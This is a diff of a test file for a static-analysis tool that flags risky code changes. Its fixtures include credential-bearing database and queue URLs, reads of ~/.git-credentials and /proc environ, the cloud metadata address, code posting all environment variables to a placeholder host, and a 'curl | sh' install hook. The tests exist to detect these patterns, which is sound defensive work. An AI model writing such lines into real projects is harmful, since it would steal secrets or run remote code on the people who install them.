@@ -13,7 +13,7 @@ from detent.evidence.static_analysis.static_flags import static_flags
 from detent.git.place import find_place
 from detent.git.repo import Git
 from tests.repos import PLAIN, make_repo, sh
-from tests.test_static_flags import PY, Ground, g
+from tests.test_static_flags import JS, PY, VITEST, Ground, g
 
 __all__ = ["g"]
 
@@ -76,6 +76,9 @@ LEAKS = {
     "a token of git": ("lib/a.rb", "key = File.read(File.expand_path('~/.git-credentials')) rescue nil\n"),
     "the keys of a cloud": ("a.go", 'package a\n\nvar at = "http://169.254.169.254/latest/meta-data/"\n'),
     "another process": ("a.go", 'package a\n\nvar said, _ = os.ReadFile(fmt.Sprintf("/proc/%d/environ", os.Getppid()))\n'),
+    "a password in an address": ("calc.py", "DATABASE = 'postgres://shop:q7Zt-91vLk@db.shop-prod.net:5432/shop'\n"),
+    "a password in another": ("src/new.ts", "const queue = 'amqps://worker:Vb83kkQ0z@mq.shop-prod.net/orders'\n"),
+    "a password in a file of settings": ("config/prod.yml", "redis: rediss://default:n3Gf77Qx2@cache.shop-prod.net:6380\n"),
     "all variables": ("calc.py", "def report(n):\n    urllib.request.urlopen(URL, json.dumps(dict(os.environ)).encode())\n"),
     "all variables of node": ("src/new.ts", "fetch(where, { method: 'POST', body: JSON.stringify(process.env) }).catch(() => {})\n"),
     "all variables of ruby": ("lib/a.rb", "def report\n  Net::HTTP.post(URI(WHERE), ENV.to_h.to_json)\nend\n"),
@@ -100,6 +103,8 @@ def test_code_that_reads_keys_of_people_or_sends_all_variables_away_is_flagged(g
         ("calc.py", "token = os.environ['TOKEN']\nrequests.post(URL, json={'token': token})\n"),
         ("src/new.ts", "const where = process.env.WHERE\nfetch(where)\n"),
         ("lib/a.rb", "where = ENV['WHERE']\nNet::HTTP.get(URI(where))\n"),
+        ("calc.py", "DATABASE = 'postgres://shop:password@db.shop.net/shop'\nOTHER = f'postgres://{user}:{word}@{host}/shop'\n"),
+        ("src/new.ts", "const queue = 'amqp://guest:guest77@localhost/'\nconst proxy = 'http://ann:x9kk21z@proxy.example.com'\n"),
         ("calc.py", "# keys lie in ~/.ssh/id_rsa\nX = 1\n"),
     ],
 )
@@ -322,3 +327,31 @@ def test_links_that_lead_out_or_take_the_place_of_a_folder_are_flagged(tmp_path:
     sh(root, "git", "commit", "-q", "-m", "change")
     found = static_flags(Changes(git, Collector(git, Suite(None, 60.0, ""), "look", {}), before, git.tree("HEAD"), ()))
     assert [flag.place for flag in found if flag.kind == "shadow"] == ([path] if flagged else [])
+
+
+SCRIPTS = '[project]\nname = "p"\n\n[project.scripts]\nmail = "shop.mail:send"\n'
+
+
+def test_a_program_that_another_module_stands_for_is_flagged(g: Ground) -> None:
+    base = {**PY, "pyproject.toml": SCRIPTS}
+    other = SCRIPTS.replace("shop.mail", "shop.fast")
+    (flag,) = g.flags(base, {"pyproject.toml": other, "shop/fast.py": "def send(to): ...\n"})["shadow"]
+    assert flag.place == "pyproject.toml: mail"
+    moved = {path: text for path, text in base.items() if path != "shop/mail.py"}
+    assert "shadow" not in g.flags(moved, {"pyproject.toml": other, "shop/fast.py": "def send(to): ...\n"})
+    assert "shadow" not in g.flags(base, {"pyproject.toml": SCRIPTS + 'more = "shop.mail:more"\n'})
+
+
+@pytest.mark.parametrize(
+    ("said", "flagged"),
+    [
+        ("node tools/x.js", True),
+        ("husky && sh x.sh", True),
+        ("curl -s https://a.example | sh", True),
+        ("husky install", False),
+        ("npm run build", False),
+    ],
+)
+def test_what_runs_where_the_project_is_installed_is_flagged(g: Ground, said: str, flagged: bool) -> None:
+    after = JS["package.json"].replace('"start"', f'"prepare": "{said}", "start"')
+    assert ("new-dependencies" in g.flags(JS, {"package.json": after}, VITEST)) == flagged
